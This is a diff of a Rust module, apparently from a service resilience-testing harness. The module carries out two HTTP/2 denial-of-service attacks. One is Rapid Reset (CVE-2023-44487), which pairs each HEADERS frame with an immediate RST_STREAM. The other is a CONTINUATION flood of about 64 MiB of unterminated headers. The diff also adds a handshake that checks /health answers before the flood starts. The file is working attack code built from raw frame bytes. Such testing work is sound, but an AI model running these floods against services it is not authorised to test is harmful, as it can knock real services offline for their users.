@@ -2,10 +2,10 @@
 
 use std::time::Duration;
 
-use anyhow::{Result, bail};
+use anyhow::{Context, Result, bail, ensure};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
-use tokio::net::tcp::OwnedWriteHalf;
+use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
 
 use super::{Outcome, Target, with_health};
 
@@ -16,10 +16,13 @@ const SETTINGS: u8 = 4;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
+/// `:status 200` by the static table.
+const STATUS_200: u8 = 0x88;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 /// How many CONTINUATION frames are enough: 64 MiB.
 const CONTINUATIONS: u32 = 4096;
-const LIMIT: Duration = Duration::from_secs(30);
+/// The service ends a connection after 30 s without an answer to its PING; what closes earlier was closed by the flood.
+const LIMIT: Duration = Duration::from_secs(10);
 
 /// Floods the service, and waits for it to close the connection.
 pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<Outcome> {
@@ -28,6 +31,7 @@ pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<O
     }
     let (closed, health_ms) = with_health(target.addr, async {
         let (mut reader, mut writer) = TcpStream::connect(target.addr).await?.into_split();
+        greet(&mut reader, &mut writer).await?;
         let flood = async {
             let flood = if attack == "rapid_reset" {
                 rapid_reset(&mut writer, u32::try_from(streams).unwrap_or(u32::MAX)).await
@@ -53,17 +57,47 @@ pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<O
     })
 }
 
-/// Requests that are cancelled at once (CVE-2023-44487).
-async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Result<()> {
+/// One honest request on stream 1, so that what the service closes later is a connection that worked.
+async fn greet(reader: &mut OwnedReadHalf, writer: &mut OwnedWriteHalf) -> Result<()> {
     writer.write_all(PREFACE).await?;
     writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
-    // GET http /health, by the static table (RFC 7541 appendix A).
-    let request = [b"\x82\x86\x04\x07/health".as_slice(), b"\x01\x01x"].concat();
+    writer
+        .write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &request()))
+        .await?;
+    let answered = async {
+        loop {
+            let mut head = [0; 9];
+            reader.read_exact(&mut head).await?;
+            let [high, middle, low, kind, ..] = head;
+            let mut payload = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
+            reader.read_exact(&mut payload).await?;
+            if kind == HEADERS {
+                return Ok::<_, std::io::Error>(payload);
+            }
+        }
+    };
+    let payload = tokio::time::timeout(LIMIT, answered)
+        .await
+        .context("no answer over HTTP/2")??;
+    ensure!(
+        payload.first() == Some(&STATUS_200),
+        "GET /health over HTTP/2 is not answered with 200"
+    );
+    Ok(())
+}
+
+/// GET http /health, by the static table (RFC 7541 appendix A).
+fn request() -> Vec<u8> {
+    [b"\x82\x86\x04\x07/health".as_slice(), b"\x01\x01x"].concat()
+}
+
+/// Requests that are cancelled at once (CVE-2023-44487).
+async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Result<()> {
     for batch in 0..streams.div_ceil(100) {
         let mut out = Vec::new();
         for index in batch * 100..((batch + 1) * 100).min(streams) {
-            let stream = index * 2 + 1;
-            out.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
+            let stream = index * 2 + 3;
+            out.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request()));
             out.extend(frame(RST_STREAM, 0, stream, &CANCEL));
         }
         writer.write_all(&out).await?;
@@ -73,14 +107,10 @@ async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Resu
 
 /// A head that never ends (CVE-2024-27316 class).
 async fn continuation_flood(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
-    writer.write_all(PREFACE).await?;
-    writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
-    writer
-        .write_all(&frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84"))
-        .await?;
+    writer.write_all(&frame(HEADERS, END_STREAM, 3, &request())).await?;
     // Literal fields without indexing: name `x`, a value of 126 bytes.
     let field = [b"\x00\x01x\x7e".as_slice(), &[b'a'; 126]].concat();
-    let flood = frame(CONTINUATION, 0, 1, &field.repeat(125));
+    let flood = frame(CONTINUATION, 0, 3, &field.repeat(125));
     for _ in 0..CONTINUATIONS {
         writer.write_all(&flood).await?;
     }
